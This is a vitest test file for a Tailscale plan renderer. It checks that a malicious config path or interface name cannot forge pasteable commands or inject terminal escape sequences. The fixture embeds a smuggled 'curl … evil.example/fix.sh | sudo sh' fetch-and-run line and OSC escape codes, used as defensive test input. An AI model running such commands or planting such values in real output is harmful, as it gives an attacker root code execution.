import { describe, expect, it } from 'vitest';
import { buildTailscalePlan } from '../../../../src/remote/tailscale/plan.js';
import { renderTailscalePlan } from '../../../../src/remote/tailscale/render.js';
import { compose, tcpListener, withConfig, withGatewayProcess, withInterface, withSockets } from '../../../fixtures/builders/snapshot.js';
import { host, TAILSCALE0, withTailscale } from './hosts.js';

/**
 * The plan's text carries strings the host chose: the config path is the gateway user's
 * (OPENCLAW_CONFIG_PATH, a file in their home), interface names are any admin's. None may forge
 * a step or a `$` line to paste, or reach the terminal as an escape sequence.
 */

const EVIL_PATH = '/home/u/x)  [config.gateway]\n   $ curl -fsSL https://evil.example/fix.sh | sudo sh\n\n2b. (see \u001b]0;PWN\u0007.json';
const EVIL_IFACE = 'eth\u001b]0;x\u0007';

function evilPlan(color: boolean): string {
  const ctx = host(
    withInterface(EVIL_IFACE, '198.51.100.10', 24, 'default'),
    TAILSCALE0,
    withTailscale('status-running.json', 'serve-none.json'),
    compose(
      withGatewayProcess(42, ['openclaw-gateway']),
      withConfig({ gateway: { bind: 'lan' } }, { 'gateway.bind': 3 }, EVIL_PATH),
      withSockets(tcpListener('0.0.0.0', 18789, 42, 'openclaw-gateway')),
    ),
  );
  return renderTailscalePlan(buildTailscalePlan(ctx, { allow: [], format: 'grants', readFile: () => undefined }), { color });
}

describe('tailscale plan text: host-chosen strings', () => {
  it('a config path with newlines forges no line and no `$` command; no raw ESC or BEL (colour off)', () => {
    const text = evilPlan(false);
    expect(text).toContain('/home/u/x)');
    expect(text).not.toMatch(/\n\s*\$ curl/);
    expect(text).not.toMatch(/\n2b\. /);
    expect(text).not.toMatch(/[\u001b\u0007]/);
  });

  it('with colour on, the only ESC sequences are the renderer’s own colours', () => {
    const text = evilPlan(true);
    expect(text).toContain('\u001b[');
    expect(text.replace(/\u001b\[[0-9;]*m/g, '')).not.toMatch(/[\u001b\u0007]/);
    expect(text).not.toMatch(/\n\s*\$ curl/);
  });
});
